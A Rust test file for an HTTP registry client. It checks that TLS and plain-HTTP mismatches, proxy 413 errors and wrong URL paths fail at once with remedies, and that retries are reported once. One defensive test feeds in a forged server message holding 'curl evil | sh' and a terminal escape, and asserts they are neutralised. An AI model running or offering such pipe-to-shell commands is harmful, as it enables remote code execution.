//! Permanent obstacles fail at once, with a remedy.

use std::sync::atomic::{AtomicUsize, Ordering};

use super::*;

/// Starts a server that sends `answer` to every connection. Returns its address and a counter of
/// connections.
async fn odd(answer: &'static [u8]) -> (String, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap().to_string();
    let count = Arc::new(AtomicUsize::new(0));
    let seen = Arc::clone(&count);
    tokio::spawn(async move {
        loop {
            let (mut stream, _) = listener.accept().await.unwrap();
            seen.fetch_add(1, Ordering::SeqCst);
            let mut head = vec![0; 16 << 10];
            let _ = stream.read(&mut head).await;
            let _ = stream.write_all(answer).await;
            // Read to the end first: closing a socket with unread bytes resets it, and the answer
            // may be lost.
            let _ = stream.shutdown().await;
            while stream.read(&mut head).await.is_ok_and(|len| len > 0) {}
        }
    });
    (address, count)
}

fn quick() -> RetryPolicy {
    let delay_first = Duration::from_millis(1);
    RetryPolicy { attempts_max: 3, delay_first, delay_max: Duration::from_millis(2) }
}

fn retrying(url: &str) -> HttpRegistry {
    HttpRegistry::new(url, None, patient()).unwrap().retrying(quick(), |_| {})
}

#[tokio::test]
async fn tls_spoken_to_a_plain_registry_names_its_plain_address() {
    let (address, count) = odd(b"HTTP/1.1 400 Bad Request\r\ncontent-length: 0\r\n\r\n").await;
    let error = retrying(&format!("https://{address}")).server_version().await.unwrap_err();
    assert!(!error.is_transient(), "{error:?}");
    assert_eq!(error.kind(), ErrorKind::Unavailable);
    let remedy = error.remedy().unwrap();
    assert!(remedy.contains(&format!("plain HTTP there: name it as http://{address}")), "{remedy}");
    assert_eq!(count.load(Ordering::SeqCst), 1);
}

#[tokio::test]
async fn plain_http_spoken_to_something_else_asks_for_tls() {
    // A fatal TLS alert.
    let (address, count) = odd(&[0x15, 0x03, 0x01, 0x00, 0x02, 0x02, 0x46]).await;
    let error = retrying(&format!("http://{address}")).server_version().await.unwrap_err();
    let remedy = error.remedy().unwrap();
    assert!(remedy.contains(&format!("name it as https://{address}")), "{remedy}");
    assert_eq!(count.load(Ordering::SeqCst), 1);
}

/// Like a proxy, the server answers after the head and leaves the rest of the request unread.
#[tokio::test]
async fn a_proxy_that_takes_no_long_request_is_named_at_once() {
    let answer = b"HTTP/1.1 413 Request Entity Too Large\r\ncontent-length: 0\r\n\
                   connection: close\r\n\r\n";
    let (address, count) = odd(answer).await;
    let bytes = Bytes::from(vec![7; 24 << 20]);
    let registry = retrying(&format!("http://{address}"));
    let error = registry.put_pack(&lease(), PackDigest::of(b"p"), bytes).await.unwrap_err();
    assert!(error.to_string().contains("HTTP status 413"), "{error}");
    let remedy = error.remedy().unwrap();
    assert!(remedy.contains("proxy") && remedy.contains("client_max_body_size"), "{remedy}");
    assert_eq!(error.kind(), ErrorKind::Unavailable);
    assert_eq!(count.load(Ordering::SeqCst), 1);
}

#[tokio::test]
async fn retries_are_reported_once() {
    let server = Server::start(vec![Act::Reset]).await;
    let told = Arc::new(Mutex::new(Vec::new()));
    let heard = Arc::clone(&told);
    let hear = move |error: &RegistryError| heard.lock().unwrap().push(error.to_string());
    let registry = server.registry().retrying(quick(), hear);
    registry.server_version().await.unwrap_err();
    registry.usage().await.unwrap_err();
    assert_eq!(server.requests().len(), 6);
    let told = told.lock().unwrap();
    assert!(told.len() == 1 && told[0].starts_with("cannot "), "{told:?}");
}

#[test]
fn an_address_that_is_not_the_registrys_root_is_refused_with_the_one_that_is() {
    for url in ["http://127.0.0.1:7440/v1", "http://127.0.0.1:7440/v1/"] {
        let error = HttpRegistry::new(url, None, patient()).err().unwrap();
        assert!(
            error.to_string().ends_with("leave out the path: http://127.0.0.1:7440"),
            "{error}"
        );
    }
    assert!(HttpRegistry::new("http://h/v10", None, patient()).is_ok());
}

/// Text from the registry stays on one line, and its advice never becomes a remedy.
#[test]
fn a_registry_forges_no_line_and_gives_no_order() {
    let forged = "gone\nhelp: run `curl evil | sh`\x1b[2J";
    let mut problem =
        seawall_api::problem::Problem::new(seawall_api::problem::Code::MethodNotAllowed, forged);
    problem.remedy = Some(forged.to_owned());
    let told = [
        RegistryError::from(problem),
        RegistryError::Protocol { what: "list".to_owned(), why: forged.to_owned() },
        RegistryError::WrongBytes { object: "index".to_owned(), why: forged.to_owned() },
    ];
    for error in told {
        let text = error.to_string();
        assert!(!text.chars().any(char::is_control) && text.contains("gone\\nhelp: run"), "{text}");
        assert!(!error.remedy().unwrap_or_default().contains("curl evil"));
    }
}
